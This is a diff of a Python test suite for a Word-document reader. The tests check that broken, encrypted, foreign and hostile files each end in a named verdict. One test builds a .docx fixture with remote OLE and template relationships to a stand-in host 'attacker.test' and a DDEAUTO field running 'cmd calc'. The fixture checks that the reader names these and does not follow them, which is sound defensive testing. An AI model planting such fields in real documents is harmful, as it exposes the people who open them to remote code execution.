@@ -1,4 +1,4 @@
-"""Broken, hostile and foreign files: each ends as a verdict in words, and the next one is read all the same."""
+"""Broken, hostile and foreign files: each ends as a verdict in words, and the next one is read as ever."""
 
 from __future__ import annotations
 
@@ -44,6 +44,7 @@ def refused(reader: Reader, path: Path) -> Fault:
     return caught.value
 
 
+LOCKED = b"\xec\xa5\xc1\x00" + b"\0" * 6 + b"\x00\x01" + b"\0" * 500
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
 
 
@@ -61,10 +62,10 @@ def utf16(text: str) -> bytes:
         (b"\x00\x01\x02\x03" * 100, "not a Word document"),
         (b"\x11Ginutech" + b"\0" * 150, "a mark Word leaves"),
         (OLE + utf16("EncryptedPackage"), "a password"),
-        (OLE + b"\xec\xa5\xc1\x00" + b"\0" * 6 + b"\x00\x01" + b"\0" * 500 + utf16("WordDocument"), "a password"),
+        (OLE + LOCKED + utf16("WordDocument"), "a password"),
         (OLE + utf16("VisioDocument"), "no Word document"),
     ],
-    ids=["empty", "cut", "html", "xml", "noise", "owner file", "encrypted docx", "encrypted doc", "other office"],
+    ids=["empty", "cut", "html", "xml", "noise", "owner file", "encrypted docx", "encrypted doc", "visio"],
 )  # fmt: skip
 def test_what_is_no_document_is_named_for_what_it_is(
     tmp_path: Path, reader: Reader, content: bytes, said: str
@@ -146,14 +147,15 @@ def test_a_document_without_its_main_part_is_told(tmp_path: Path, reader: Reader
 def test_macros_links_and_embedded_files_are_named_and_not_followed(tmp_path: Path, reader: Reader) -> None:
     path = save(tmp_path / "contrat.docx", paragraph("N° : 1"))
     kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    opening = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    outside = 'TargetMode="External"/>'
     rels = (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        f'<Relationship Id="r1" Type="{kind}/oleObject" Target="http://attacker.test/x" TargetMode="External"/>'
+        f'{opening}<Relationship Id="r1" Type="{kind}/oleObject" Target="http://attacker.test/x" {outside}'
         f'<Relationship Id="r2" Type="{kind}/settings" Target="settings.xml"/></Relationships>'
     )
     template = (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
-        f'Type="{kind}/attachedTemplate" Target="http://attacker.test/t.dotm" TargetMode="External"/></Relationships>'
+        f'{opening}<Relationship Id="r1" Type="{kind}/attachedTemplate" '
+        f'Target="http://attacker.test/t.dotm" {outside}</Relationships>'
     )
     fetching = '<w:p><w:fldSimple w:instr="DDEAUTO cmd calc"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
     repacked(
@@ -194,7 +196,7 @@ def test_a_regular_expression_without_end_costs_its_time_and_no_more(tmp_path: P
 def test_a_reader_without_memory_says_so_and_lives(tmp_path: Path) -> None:
     path = save(tmp_path / "gros.docx", "<w:p/>" * 900_000)
     with Reader(Limits(memory=220 * MIB)) as reader:
-        with pytest.raises(Fault, match="memory|cannot be read"):
+        with pytest.raises(Fault, match=r"memory|cannot be read"):
             reader.read(path, {})
         sound = save(tmp_path / "bon.docx", paragraph("contrat"), paragraph("N° : 1"))
         assert reader.read(sound, {"essai": profile(NUMBER)}).verdict == "read"
@@ -229,10 +231,13 @@ def test_a_strangers_document_ends_as_a_verdict(reader: Reader, path: Path) -> N
 @needs_samples
 def test_no_sample_of_any_kind_ends_the_reader(reader: Reader) -> None:
     others = [p for p in sorted(SAMPLES.rglob("*")) if p.is_file() and p not in DOCUMENTS]
-    for path in others:
-        try:
-            assert reader.read(path, {}).verdict == "unsupported"
-        except Fault as fault:
-            assert fault.todo
-    assert others
+    assert {verdict(reader, path) for path in others} == {"unsupported", "refused"}
     tally("bad inputs tried", len(others))
+
+
+def verdict(reader: Reader, path: Path) -> str:
+    """What a file comes to; a refusal without a word of what to do is none."""
+    try:
+        return reader.read(path, {}).verdict
+    except Fault as fault:
+        return "refused" if fault.what and fault.todo else "without a word"
